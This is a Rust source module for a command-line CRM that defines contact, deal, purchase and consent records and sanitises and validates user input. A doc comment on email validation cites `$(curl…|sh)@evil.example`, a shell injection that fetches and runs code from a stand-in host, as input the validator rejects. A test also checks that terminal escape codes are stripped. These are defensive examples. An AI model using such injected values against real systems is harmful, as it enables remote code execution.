//! Plain CRM data: contacts, organisations, interactions, follow-ups, purchases, deals, consent,
//! the audit trail's records — with validation and sanitising of user text. No I/O, no terminal.
//!
//! Every constructor path for user input goes through [`ContactDraft::into_contact`] or the
//! `clean` methods here, so the store only ever sees sanitised, validated records.

pub mod merge;
pub mod text;
pub mod time;

use std::collections::BTreeMap;
use std::fmt;
use std::str::FromStr;

use serde::{Deserialize, Serialize};

pub use time::{At, Day};

/// Record identifiers; one counter per kind, never reused.
pub type Id = u64;

/// Who acts: the agent behind every write (OS user by default, `--as NAME` on the CLI).
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Actor(pub String);

impl Actor {
    /// A cleaned name of at most [`limits::NAME_CHARS`] characters (a longer claim from a
    /// hostile client is cut; the CLI refuses a long `--as` before it gets here).
    pub fn new(name: &str) -> Self {
        let mut clean = text::clean_line(name);
        if let Some((cut, _)) = clean.char_indices().nth(limits::NAME_CHARS) {
            clean.truncate(cut);
        }
        Actor(if clean.is_empty() {
            "unknown".into()
        } else {
            clean
        })
    }
    /// The OS user running rolo.
    /// The OS user: `$USER`/`$LOGNAME`, else (cron, containers, `env -i`) the account's name in
    /// the password database, so a write is never attributed to "unknown" while the account
    /// has a name.
    pub fn from_os() -> Self {
        let name = ["USER", "LOGNAME", "USERNAME"]
            .iter()
            .filter_map(|v| std::env::var(v).ok())
            .find(|n| !n.trim().is_empty())
            .or_else(passwd_name)
            .unwrap_or_else(|| "unknown".into());
        Actor::new(&name)
    }
}

/// This process's account name from `/etc/passwd` (`name:x:uid:…`), by real uid.
fn passwd_name() -> Option<String> {
    let uid = rustix::process::getuid().as_raw();
    passwd_name_for(&std::fs::read_to_string("/etc/passwd").ok()?, uid)
}

pub fn passwd_name_for(passwd: &str, uid: u32) -> Option<String> {
    passwd.lines().find_map(|line| {
        let mut fields = line.split(':');
        let name = fields.next()?;
        let _password = fields.next()?;
        let id: u32 = fields.next()?.parse().ok()?;
        (id == uid && !name.is_empty()).then(|| name.to_string())
    })
}

impl fmt::Display for Actor {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// Declares a closed set of lowercase names with `Display`, `FromStr` and `ALL`. Each variant
/// is written (JSON, CLI, TUI) as its one name, and read also under the older spellings listed
/// after it (`Inbound = "in" | "inbound"`): a file written by an older rolo still imports. The
/// store's postcard encoding is by variant index, so names never change stored bytes.
macro_rules! named_enum {
    ($(#[$meta:meta])* $name:ident { $($variant:ident = $text:literal $(| $old:literal)*),+ $(,)? }) => {
        $(#[$meta])*
        #[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
        pub enum $name { $(#[serde(rename = $text $(, alias = $old)*)] $variant),+ }

        impl $name {
            pub const ALL: &'static [$name] = &[$($name::$variant),+];
            pub fn name(self) -> &'static str {
                match self { $($name::$variant => $text),+ }
            }
            /// The older spellings still read.
            fn old_names(self) -> &'static [&'static str] {
                match self { $($name::$variant => &[$($old),*]),+ }
            }
        }

        impl fmt::Display for $name {
            fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                f.write_str(self.name())
            }
        }

        impl FromStr for $name {
            type Err = String;
            fn from_str(s: &str) -> Result<Self, String> {
                let wanted = s.trim().to_lowercase();
                $name::ALL
                    .iter()
                    .copied()
                    .find(|v| v.name() == wanted || v.old_names().contains(&wanted.as_str()))
                    .ok_or_else(|| {
                        let names: Vec<&str> = $name::ALL.iter().map(|v| v.name()).collect();
                        format!("`{s}` is not one of: {}", names.join(", "))
                    })
            }
        }
    };
}

named_enum!(
    /// How a contact happened or may happen.
    Channel {
        Call = "call",
        Email = "email",
        Meeting = "meeting",
        Chat = "chat",
        Sms = "sms",
        Visit = "visit",
        Social = "social",
        Post = "post",
        Note = "note",
    }
);

named_enum!(
    /// Who reached out: the contact (`in`, the default: an incoming call) or us (`out`).
    /// Earlier rolo versions wrote `inbound` / `outbound` in JSON.
    Direction {
        Inbound = "in" | "inbound",
        Outbound = "out" | "outbound",
    }
);

named_enum!(
    /// How an interaction ended. Earlier rolo versions wrote `noanswer` in JSON.
    Outcome {
        Open = "open",
        Resolved = "resolved",
        Escalated = "escalated",
        NoAnswer = "no-answer" | "noanswer" | "no answer" | "no_answer",
    }
);

named_enum!(
    /// Where a person is in the customer lifecycle.
    Stage {
        Lead = "lead",
        Prospect = "prospect",
        Customer = "customer",
        Former = "former",
    }
);

named_enum!(ConsentStatus {
    Granted = "granted",
    Denied = "denied",
    Unknown = "unknown",
});

named_enum!(DealStage {
    Qualify = "qualify",
    Propose = "propose",
    Negotiate = "negotiate",
    Closed = "closed",
});

named_enum!(DealStatus { Open = "open", Won = "won", Lost = "lost" });

/// A labelled contact point (`work` → `ana@example.com`).
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Labelled {
    pub label: String,
    pub value: String,
}

impl Labelled {
    pub fn new(label: &str, value: &str) -> Self {
        Labelled {
            label: text::clean_line(label).to_lowercase(),
            value: text::clean_line(value),
        }
    }
}

#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Address {
    pub label: String,
    pub street: String,
    pub city: String,
    pub region: String,
    pub postcode: String,
    pub country: String,
}

impl Address {
    fn clean(&mut self) {
        for field in [
            &mut self.label,
            &mut self.street,
            &mut self.city,
            &mut self.region,
            &mut self.postcode,
            &mut self.country,
        ] {
            *field = text::clean_line(field);
        }
        self.label = self.label.to_lowercase();
    }
    pub fn one_line(&self) -> String {
        [
            &self.street,
            &self.postcode,
            &self.city,
            &self.region,
            &self.country,
        ]
        .iter()
        .filter(|s| !s.is_empty())
        .map(|s| s.as_str())
        .collect::<Vec<_>>()
        .join(", ")
    }
}

/// A birthday; the year is optional (vCard allows `--05-17`).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Birthday {
    pub year: Option<i16>,
    pub month: u8,
    pub day: u8,
}

impl fmt::Display for Birthday {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self.year {
            Some(y) => write!(f, "{y:04}-{:02}-{:02}", self.month, self.day),
            None => write!(f, "--{:02}-{:02}", self.month, self.day),
        }
    }
}

impl FromStr for Birthday {
    type Err = String;
    fn from_str(s: &str) -> Result<Self, String> {
        let bad = || format!("`{s}` is not a birthday (use YYYY-MM-DD or --MM-DD)");
        let t = s.trim();
        let (year, rest) = if let Some(rest) = t.strip_prefix("--") {
            (None, rest)
        } else {
            let (y, rest) = t.split_once('-').ok_or_else(bad)?;
            (Some(y.parse::<i16>().map_err(|_| bad())?), rest)
        };
        let (m, d) = rest.split_once('-').ok_or_else(bad)?;
        let month: u8 = m.parse().map_err(|_| bad())?;
        let day: u8 = d.parse().map_err(|_| bad())?;
        let birthday = Birthday { year, month, day };
        birthday.check().map_err(|_| bad())?;
        Ok(birthday)
    }
}

impl Birthday {
    /// A day that exists (a year-less birthday may be 29 February) in a year of the common era
    /// — the derived deserializer (JSON imports) accepts any numbers, so every way in checks
    /// this. (Old placeholder years such as Apple's 1604 pass; the vCard reader drops them.)
    pub fn check(&self) -> Result<(), String> {
        let year = self.year.unwrap_or(2000);
        let real = (1..=9999).contains(&year)
            && (1..=12).contains(&self.month)
            && i8::try_from(self.month)
                .ok()
                .zip(i8::try_from(self.day).ok())
                .is_some_and(|(m, d)| jiff::civil::Date::new(year, m, d).is_ok());
        if real {
            Ok(())
        } else {
            Err(format!("{self} is not a real birthday"))
        }
    }
}

/// A typed custom field value.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum CustomValue {
    Text(String),
    Number(f64),
    Bool(bool),
    Date(Day),
}

impl fmt::Display for CustomValue {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            CustomValue::Text(t) => f.write_str(t),
            CustomValue::Number(n) => write!(f, "{n}"),
            CustomValue::Bool(b) => write!(f, "{}", if *b { "yes" } else { "no" }),
            CustomValue::Date(d) => write!(f, "{d}"),
        }
    }
}

impl CustomValue {
    /// Reads a value typed on the command line or in a form: `true`/`false`/`yes`/`no`, a number,
    /// a `YYYY-MM-DD` date, else text.
    pub fn guess(input: &str) -> Self {
        let t = text::clean_line(input);
        match t.to_lowercase().as_str() {
            "true" | "yes" => return CustomValue::Bool(true),
            "false" | "no" => return CustomValue::Bool(false),
            _ => {}
        }
        if let Ok(n) = t.parse::<f64>()
            && n.is_finite()
        {
            return CustomValue::Number(n);
        }
        if let Ok(d) = t.parse::<Day>() {
            return CustomValue::Date(d);
        }
        CustomValue::Text(t)
    }
}

/// Permission to contact a person over one channel, with when, how and why.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Consent {
    pub channel: Channel,
    pub status: ConsentStatus,
    pub at: At,
    pub source: String,
    pub purpose: String,
}

/// Who changed a record and when.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Stamp {
    pub at: At,
    pub by: String,
}

impl Stamp {
    pub fn now(actor: &Actor) -> Self {
        Stamp {
            at: At::now(),
            by: actor.0.clone(),
        }
    }
}

#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct Contact {
    pub id: Id,
    pub name: String,
    pub given_name: String,
    pub family_name: String,
    pub organization: Option<Id>,
    pub title: String,
    pub emails: Vec<Labelled>,
    pub phones: Vec<Labelled>,
    pub addresses: Vec<Address>,
    pub birthday: Option<Birthday>,
    pub language: String,
    pub preferred_channel: Option<Channel>,
    pub stage: Stage,
    pub tier: String,
    pub owner: String,
    pub source: String,
    pub tags: Vec<String>,
    pub custom: BTreeMap<String, CustomValue>,
    pub consent: Vec<Consent>,
    pub notes: String,
    /// An identifier from another system (vCard UID), used to match re-imports.
    pub uid: String,
    pub created: Stamp,
    pub updated: Stamp,
    /// Bumped on every change; an update carrying an older version is refused.
    pub version: u64,
}

impl Contact {
    pub fn primary_email(&self) -> Option<&str> {
        self.emails.first().map(|e| e.value.as_str())
    }
    pub fn primary_phone(&self) -> Option<&str> {
        self.phones.first().map(|p| p.value.as_str())
    }
    pub fn city(&self) -> Option<&str> {
        self.addresses
            .iter()
            .map(|a| a.city.as_str())
            .find(|c| !c.is_empty())
    }
    pub fn consent_for(&self, channel: Channel) -> ConsentStatus {
        self.consent
            .iter()
            .rev()
            .find(|c| c.channel == channel)
            .map_or(ConsentStatus::Unknown, |c| c.status)
    }

    /// Sanitises every text field in place (NFC, no control characters, tags normalised).
    pub fn clean(&mut self) {
        for field in [
            &mut self.name,
            &mut self.given_name,
            &mut self.family_name,
            &mut self.title,
            &mut self.language,
            &mut self.tier,
            &mut self.owner,
            &mut self.source,
            &mut self.uid,
            // Who made and last changed it: from a JSON file these are text like any other.
            &mut self.created.by,
            &mut self.updated.by,
        ] {
            *field = text::clean_line(field);
        }
        if self.name.is_empty() {
            self.name = [self.given_name.as_str(), self.family_name.as_str()]
                .iter()
                .filter(|s| !s.is_empty())
                .copied()
                .collect::<Vec<_>>()
                .join(" ");
        }
        self.notes = text::clean_multiline(&self.notes);
        for point in self.emails.iter_mut().chain(self.phones.iter_mut()) {
            *point = Labelled::new(&point.label, &point.value);
        }
        self.emails.retain(|e| !e.value.is_empty());
        self.phones.retain(|p| !p.value.is_empty());
        self.addresses.iter_mut().for_each(Address::clean);
        self.addresses.retain(|a| !a.one_line().is_empty());
        let mut tags: Vec<String> = self.tags.iter().map(|t| text::clean_tag(t)).collect();
        tags.retain(|t| !t.is_empty());
        tags.sort();
        tags.dedup();
        self.tags = tags;
        self.custom = std::mem::take(&mut self.custom)
            .into_iter()
            .map(|(k, v)| {
                let v = match v {
                    CustomValue::Text(t) => CustomValue::Text(text::clean_line(&t)),
                    other => other,
                };
                (text::clean_line(&k).to_lowercase(), v)
            })
            .filter(|(k, _)| !k.is_empty())
            .collect();
        for c in &mut self.consent {
            c.source = text::clean_line(&c.source);
            c.purpose = text::clean_line(&c.purpose);
        }
        if self.name.is_empty() {
            // Contacts with only an email or a phone are kept, named after what we have.
            self.name = self
                .primary_email()
                .or(self.primary_phone())
                .unwrap_or_default()
                .to_string();
        }
    }

    /// Checks a cleaned contact; every problem is reported, each against its field.
    pub fn validate(&self) -> Result<(), Invalid> {
        let mut problems = Vec::new();
        if self.name.is_empty() {
            problems.push(FieldError::new(
                "name",
                "a name, email or phone is required",
            ));
        }
        for e in &self.emails {
            if let Err(msg) = check_email(&e.value) {
                problems.push(FieldError::new("email", &msg));
            }
        }
        for p in &self.phones {
            if let Err(msg) = check_phone(&p.value) {
                problems.push(FieldError::new("phone", &msg));
            }
        }
        if self.name.chars().count() > limits::NAME_CHARS {
            problems.push(FieldError::new(
                "name",
                &format!("is longer than {} characters", limits::NAME_CHARS),
            ));
        }
        for (field, value) in [
            ("given_name", &self.given_name),
            ("family_name", &self.family_name),
            ("title", &self.title),
            ("language", &self.language),
            ("tier", &self.tier),
            ("owner", &self.owner),
            ("source", &self.source),
            ("uid", &self.uid),
        ] {
            if value.chars().count() > limits::LINE_CHARS {
                problems.push(FieldError::new(
                    field,
                    &format!("is longer than {} characters", limits::LINE_CHARS),
                ));
            }
        }
        if self.notes.chars().count() > limits::NOTES_CHARS {
            problems.push(FieldError::new(
                "notes",
                &format!("are longer than {} characters", limits::NOTES_CHARS),
            ));
        }
        for (field, len, max) in [
            ("emails", self.emails.len(), limits::POINTS),
            ("phones", self.phones.len(), limits::POINTS),
            ("addresses", self.addresses.len(), limits::POINTS),
            ("tags", self.tags.len(), limits::TAGS),
            ("custom", self.custom.len(), limits::CUSTOM_FIELDS),
        ] {
            if len > max {
                problems.push(FieldError::new(
                    field,
                    &format!("{len} is more than a contact holds ({max})"),
                ));
            }
        }
        if let Some(Err(msg)) = self.birthday.map(|b| b.check()) {
            problems.push(FieldError::new("birthday", &msg));
        }
        Invalid::from_problems(problems)
    }
}

/// How much one contact holds, checked by [`Contact::validate`] on every way in (CLI, TUI,
/// imports, merges), so no record can grow without bound (an import of 20,000 cards sharing
/// one email merges them into one contact: its lists stop here instead of growing with every
/// card, which made such imports quadratic).
pub mod limits {
    /// Emails, phones and addresses, each.
    pub const POINTS: usize = 50;
    pub const TAGS: usize = 100;
    pub const CUSTOM_FIELDS: usize = 100;
    /// Single-line fields other than the name (which holds 200).
    pub const LINE_CHARS: usize = 1_000;
    pub const NOTES_CHARS: usize = 100_000;
    /// Names of people: a contact's name, an agent, an assignee, a deal's owner, `--as`.
    pub const NAME_CHARS: usize = 200;

    /// Adds a problem to `problems` when `value` holds more than `max` characters.
    pub(crate) fn check(
        problems: &mut Vec<super::FieldError>,
        field: &str,
        value: &str,
        max: usize,
    ) {
        if value.chars().nth(max).is_some() {
            problems.push(super::FieldError::new(
                field,
                &format!("is longer than {max} characters"),
            ));
        }
    }
}

/// An address mail systems accept (RFC 5321/5322 without quoted local parts or address
/// literals, which no CRM user types; RFC 6531 non-ASCII letters allowed): a dot-atom local part
/// and a domain of at least two labels of letters, digits and inner hyphens. Shell-looking text
/// such as `$(curl…|sh)@evil.example` is refused, since parentheses need quoting there.
pub fn check_email(value: &str) -> Result<(), String> {
    let bad = || Err(format!("`{value}` is not an email address"));
    let Some((local, domain)) = value.rsplit_once('@') else {
        return bad();
    };
    let atext = |c: char| c.is_alphanumeric() || "!#$%&'*+/=?^_`{|}~-".contains(c);
    let local_ok = !local.is_empty()
        && local
            .split('.')
            .all(|part| !part.is_empty() && part.chars().all(atext));
    let label_ok = |label: &str| {
        !label.is_empty()
            && label.len() <= 63
            && !label.starts_with('-')
            && !label.ends_with('-')
            && label.chars().all(|c| c.is_alphanumeric() || c == '-')
    };
    let domain_ok = domain.len() <= 253 && domain.contains('.') && domain.split('.').all(label_ok);
    if local_ok && domain_ok { Ok(()) } else { bad() }
}

pub fn check_phone(value: &str) -> Result<(), String> {
    let digits = text::phone_key(value).len();
    let allowed = value
        .chars()
        .all(|c| c.is_ascii_digit() || " +-()./xX".contains(c) || c.is_ascii_alphabetic());
    if (3..=20).contains(&digits) && allowed {
        Ok(())
    } else {
        Err(format!("`{value}` is not a phone number"))
    }
}

/// One validation problem, against the field it concerns (forms show it next to the field).
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct FieldError {
    pub field: String,
    pub message: String,
}

impl FieldError {
    pub fn new(field: &str, message: &str) -> Self {
        FieldError {
            field: field.into(),
            message: message.into(),
        }
    }
}

/// A record that failed validation: all of its problems.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error, Serialize, Deserialize)]
#[error("{}", .0.iter().map(|p| format!("{}: {}", p.field, p.message)).collect::<Vec<_>>().join("; "))]
pub struct Invalid(pub Vec<FieldError>);

impl Invalid {
    fn from_problems(problems: Vec<FieldError>) -> Result<(), Invalid> {
        if problems.is_empty() {
            Ok(())
        } else {
            Err(Invalid(problems))
        }
    }
    pub fn single(field: &str, message: &str) -> Self {
        Invalid(vec![FieldError::new(field, message)])
    }
}

#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct Organization {
    pub id: Id,
    pub name: String,
    pub domain: String,
    pub industry: String,
    pub address: Address,
    pub tags: Vec<String>,
    pub notes: String,
    pub version: u64,
}

impl Organization {
    pub fn named(name: &str) -> Self {
        Organization {
            id: 0,
            name: text::clean_line(name),
            domain: String::new(),
            industry: String::new(),
            address: Address::default(),
            tags: Vec::new(),
            notes: String::new(),
            version: 0,
        }
    }
}

#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Interaction {
    pub id: Id,
    pub contact: Id,
    pub at: At,
    pub channel: Channel,
    pub direction: Direction,
    pub summary: String,
    pub body: String,
    pub outcome: Option<Outcome>,
    /// 1 (very unhappy) to 5 (delighted), when known.
    pub satisfaction: Option<u8>,
    pub agent: String,
    pub deal: Option<Id>,
    pub campaign: String,
}

impl Interaction {
    /// A new inbound interaction with `contact` now (the store gives it an id and an agent).
    pub fn new(contact: Id, channel: Channel, summary: &str) -> Interaction {
        Interaction {
            id: 0,
            contact,
            at: At::now(),
            channel,
            direction: Direction::Inbound,
            summary: summary.to_string(),
            body: String::new(),
            outcome: None,
            satisfaction: None,
            agent: String::new(),
            deal: None,
            campaign: String::new(),
        }
    }

    pub fn clean(&mut self) -> Result<(), Invalid> {
        self.summary = text::clean_line(&self.summary);
        self.body = text::clean_multiline(&self.body);
        self.agent = text::clean_line(&self.agent);
        self.campaign = text::clean_line(&self.campaign);
        if self.summary.is_empty() {
            if let Some(first) = self.body.lines().find(|l| !l.trim().is_empty()) {
                self.summary = text::clean_line(first);
            }
        }
        let mut problems = Vec::new();
        if self.summary.is_empty() {
            problems.push(FieldError::new(
                "summary",
                "say in a few words what happened",
            ));
        }
        if let Some(s) = self.satisfaction
            && !(1..=5).contains(&s)
        {
            problems.push(FieldError::new("satisfaction", "must be 1 to 5"));
        }
        self.check_sizes(&mut problems);
        Invalid::from_problems(problems)
    }

    fn check_sizes(&self, problems: &mut Vec<FieldError>) {
        limits::check(problems, "summary", &self.summary, limits::LINE_CHARS);
        limits::check(problems, "body", &self.body, limits::NOTES_CHARS);
        limits::check(problems, "agent", &self.agent, limits::NAME_CHARS);
        limits::check(problems, "campaign", &self.campaign, limits::LINE_CHARS);
    }
}

#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct FollowUp {
    pub id: Id,
    pub contact: Id,
    pub created: At,
    pub due: Day,
    pub what: String,
    pub done_at: Option<At>,
    pub assignee: String,
}

impl FollowUp {
    pub fn is_open(&self) -> bool {
        self.done_at.is_none()
    }
    pub fn clean(&mut self) -> Result<(), Invalid> {
        self.what = text::clean_line(&self.what);
        self.assignee = text::clean_line(&self.assignee);
        if self.what.is_empty() {
            return Err(Invalid::single("what", "say what needs doing"));
        }
        let mut problems = Vec::new();
        self.check_sizes(&mut problems);
        Invalid::from_problems(problems)
    }

    fn check_sizes(&self, problems: &mut Vec<FieldError>) {
        limits::check(problems, "what", &self.what, limits::LINE_CHARS);
        limits::check(problems, "assignee", &self.assignee, limits::NAME_CHARS);
    }
}

/// The customer tiers rolo offers in pickers (and demo data uses). A tier is free text: any
/// other name a team uses is kept as typed.
pub const TIERS: &[&str] = &["bronze", "silver", "gold", "platinum"];

/// Money in minor units (cents) of an ISO 4217 currency.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Money {
    pub minor: i64,
    pub currency: String,
}

impl fmt::Display for Money {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let sign = if self.minor < 0 { "-" } else { "" };
        let abs = self.minor.unsigned_abs();
        write!(f, "{sign}{}.{:02} {}", abs / 100, abs % 100, self.currency)
    }
}

pub fn check_currency(code: &str) -> Result<(), String> {
    if code.len() == 3 && code.chars().all(|c| c.is_ascii_uppercase()) {
        Ok(())
    } else {
        Err(format!("`{code}` is not a currency code (e.g. EUR, USD)"))
    }
}

#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Purchase {
    pub id: Id,
    pub contact: Id,
    pub at: At,
    pub product: String,
    pub quantity: u32,
    /// Total charged, in minor units of `currency`.
    pub amount: i64,
    /// What it cost us, in minor units of `currency`.
    pub cost: i64,
    pub currency: String,
    /// Sales channel: web, store, phone, partner…
    pub channel: String,
    pub location: String,
}

impl Purchase {
    fn check_sizes(&self, problems: &mut Vec<FieldError>) {
        limits::check(problems, "product", &self.product, limits::LINE_CHARS);
        limits::check(problems, "channel", &self.channel, limits::LINE_CHARS);
        limits::check(problems, "location", &self.location, limits::LINE_CHARS);
    }
    pub fn margin(&self) -> i64 {
        self.amount - self.cost
    }
    pub fn clean(&mut self) -> Result<(), Invalid> {
        self.product = text::clean_line(&self.product);
        self.channel = text::clean_line(&self.channel);
        self.location = text::clean_line(&self.location);
        self.currency = text::clean_line(&self.currency).to_uppercase();
        let mut problems = Vec::new();
        if self.product.is_empty() {
            problems.push(FieldError::new("product", "is required"));
        }
        if let Err(m) = check_currency(&self.currency) {
            problems.push(FieldError::new("currency", &m));
        }
        if self.quantity == 0 {
            problems.push(FieldError::new("quantity", "must be at least 1"));
        }
        self.check_sizes(&mut problems);
        Invalid::from_problems(problems)
    }
}

#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Deal {
    pub id: Id,
    pub contact: Option<Id>,
    pub organization: Option<Id>,
    pub title: String,
    pub stage: DealStage,
    pub value: i64,
    pub currency: String,
    pub expected_close: Option<Day>,
    pub status: DealStatus,
    pub owner: String,
    pub version: u64,
}

impl Deal {
    pub fn clean(&mut self) -> Result<(), Invalid> {
        self.title = text::clean_line(&self.title);
        self.owner = text::clean_line(&self.owner);
        self.currency = text::clean_line(&self.currency).to_uppercase();
        let mut problems = Vec::new();
        if self.title.is_empty() {
            problems.push(FieldError::new("title", "is required"));
        }
        if let Err(m) = check_currency(&self.currency) {
            problems.push(FieldError::new("currency", &m));
        }
        self.sizes(&mut problems);
        Invalid::from_problems(problems)
    }

    /// The size limits alone (every write checks them, whatever path it came by).
    pub fn check_sizes(&self) -> Result<(), Invalid> {
        let mut problems = Vec::new();
        self.sizes(&mut problems);
        Invalid::from_problems(problems)
    }

    fn sizes(&self, problems: &mut Vec<FieldError>) {
        limits::check(problems, "title", &self.title, limits::LINE_CHARS);
        limits::check(problems, "owner", &self.owner, limits::NAME_CHARS);
    }
}

/// Something on a contact's timeline. One table holds all three so a timeline is one range scan.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Entry {
    Interaction(Interaction),
    FollowUp(FollowUp),
    Purchase(Purchase),
}

impl Entry {
    pub fn id(&self) -> Id {
        match self {
            Entry::Interaction(i) => i.id,
            Entry::FollowUp(f) => f.id,
            Entry::Purchase(p) => p.id,
        }
    }
    pub fn contact(&self) -> Id {
        match self {
            Entry::Interaction(i) => i.contact,
            Entry::FollowUp(f) => f.contact,
            Entry::Purchase(p) => p.contact,
        }
    }
    /// When it sits on the timeline: an interaction's or purchase's time, a follow-up's creation.
    pub fn at(&self) -> At {
        match self {
            Entry::Interaction(i) => i.at,
            Entry::FollowUp(f) => f.created,
            Entry::Purchase(p) => p.at,
        }
    }
    pub fn kind(&self) -> &'static str {
        match self {
            Entry::Interaction(_) => "interaction",
            Entry::FollowUp(_) => "follow-up",
            Entry::Purchase(_) => "purchase",
        }
    }
    pub fn set_id(&mut self, id: Id) {
        match self {
            Entry::Interaction(i) => i.id = id,
            Entry::FollowUp(f) => f.id = id,
            Entry::Purchase(p) => p.id = id,
        }
    }
    pub fn set_contact(&mut self, contact: Id) {
        match self {
            Entry::Interaction(i) => i.contact = contact,
            Entry::FollowUp(f) => f.contact = contact,
            Entry::Purchase(p) => p.contact = contact,
        }
    }
    pub fn clean(&mut self) -> Result<(), Invalid> {
        match self {
            Entry::Interaction(i) => i.clean(),
            Entry::FollowUp(f) => f.clean(),
            Entry::Purchase(p) => p.clean(),
        }
    }
    /// The size limits alone (every write checks them, whatever path it came by: a JSON
    /// restore or a purchase import as much as the TUI).
    pub fn check_sizes(&self) -> Result<(), Invalid> {
        let mut problems = Vec::new();
        match self {
            Entry::Interaction(i) => i.check_sizes(&mut problems),
            Entry::FollowUp(f) => f.check_sizes(&mut problems),
            Entry::Purchase(p) => p.check_sizes(&mut problems),
        }
        Invalid::from_problems(problems)
    }
}

/// The last interaction and the earliest open follow-up of a timeline — what the list shows
/// and search uses for recency.
pub fn timeline_recency<'a>(
    entries: impl IntoIterator<Item = &'a Entry>,
) -> (Option<At>, Option<Day>) {
    let mut last: Option<At> = None;
    let mut due: Option<Day> = None;
    for entry in entries {
        match entry {
            Entry::Interaction(i) => last = last.max(Some(i.at)),
            Entry::FollowUp(f) if f.is_open() => due = Some(due.map_or(f.due, |d| d.min(f.due))),
            _ => {}
        }
    }
    (last, due)
}

/// A new contact as typed by a person or read from a file, before the store gives it an id.
#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize)]
pub struct ContactDraft {
    pub name: String,
    pub given_name: String,
    pub family_name: String,
    pub organization: String,
    pub title: String,
    pub emails: Vec<Labelled>,
    pub phones: Vec<Labelled>,
    pub addresses: Vec<Address>,
    pub birthday: Option<Birthday>,
    pub language: String,
    pub preferred_channel: Option<Channel>,
    pub stage: Option<Stage>,
    pub tier: String,
    pub owner: String,
    pub source: String,
    pub tags: Vec<String>,
    pub custom: BTreeMap<String, CustomValue>,
    pub consent: Vec<Consent>,
    pub notes: String,
    pub uid: String,
}

impl ContactDraft {
    /// A cleaned, validated contact (id 0, organisation unresolved) stamped by `actor`.
    pub fn into_contact(self, actor: &Actor) -> Result<Contact, Invalid> {
        let stamp = Stamp::now(actor);
        let mut contact = Contact {
            id: 0,
            name: self.name,
            given_name: self.given_name,
            family_name: self.family_name,
            organization: None,
            title: self.title,
            emails: self.emails,
            phones: self.phones,
            addresses: self.addresses,
            birthday: self.birthday,
            language: self.language,
            preferred_channel: self.preferred_channel,
            stage: self.stage.unwrap_or(Stage::Lead),
            tier: self.tier,
            owner: if self.owner.is_empty() {
                actor.0.clone()
            } else {
                self.owner
            },
            source: self.source,
            tags: self.tags,
            custom: self.custom,
            consent: self.consent,
            notes: self.notes,
            uid: self.uid,
            created: stamp.clone(),
            updated: stamp,
            version: 0,
        };
        contact.clean();
        contact.validate()?;
        Ok(contact)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn draft(name: &str) -> ContactDraft {
        ContactDraft {
            name: name.into(),
            ..ContactDraft::default()
        }
    }

    #[test]
    fn drafts_are_sanitised_on_entry() {
        let mut d = draft("Evil\u{1b}[2JName");
        d.emails.push(Labelled::new("WORK", " ana@example.com "));
        d.tags = vec!["VIP".into(), "#vip".into(), " big fish ".into()];
        d.notes = "line one\r\nline\u{7} two".into();
        let c = d.into_contact(&Actor::new("sam")).unwrap();
        assert_eq!(c.name, "Evil[2JName");
        assert_eq!(
            c.emails[0],
            Labelled {
                label: "work".into(),
                value: "ana@example.com".into()
            }
        );
        assert_eq!(c.tags, vec!["big-fish", "vip"]);
        assert_eq!(c.notes, "line one\nline two");
        assert_eq!(c.owner, "sam");
        assert_eq!(c.created.by, "sam");
    }

    #[test]
    fn a_phone_only_contact_is_named_after_the_phone() {
        let mut d = draft("");
        d.phones.push(Labelled::new("mobile", "+385 91 234 5678"));
        let c = d.into_contact(&Actor::new("sam")).unwrap();
        assert_eq!(c.name, "+385 91 234 5678");
    }

    #[test]
    fn validation_reports_every_field() {
        let mut d = draft("");
        d.emails.push(Labelled::new("", "not-an-email"));
        d.phones.push(Labelled::new("", "12"));
        let err = d.into_contact(&Actor::new("sam")).unwrap_err();
        let fields: Vec<&str> = err.0.iter().map(|p| p.field.as_str()).collect();
        assert_eq!(fields, vec!["email", "phone"]);
    }

    #[test]
    fn names_parse_and_list_alternatives() {
        assert_eq!("Call".parse::<Channel>(), Ok(Channel::Call));
        assert_eq!("no-answer".parse::<Outcome>(), Ok(Outcome::NoAnswer));
        let err = "fax".parse::<Channel>().unwrap_err();
        assert!(err.contains("call, email, meeting"), "{err}");
    }

    #[test]
    fn the_agent_falls_back_to_the_passwd_name() {
        let passwd =
            "root:x:0:0:root:/root:/bin/bash\n# comment\nsam:x:1000:1000::/home/sam:/bin/sh\n";
        assert_eq!(passwd_name_for(passwd, 1000).as_deref(), Some("sam"));
        assert_eq!(passwd_name_for(passwd, 0).as_deref(), Some("root"));
        assert_eq!(passwd_name_for(passwd, 42), None);
    }

    #[test]
    fn impossible_birthdays_are_refused() {
        for bad in ["1990-13-99", "1990-02-31", "--02-30", "0000-01-01"] {
            assert!(bad.parse::<Birthday>().is_err(), "{bad}");
        }
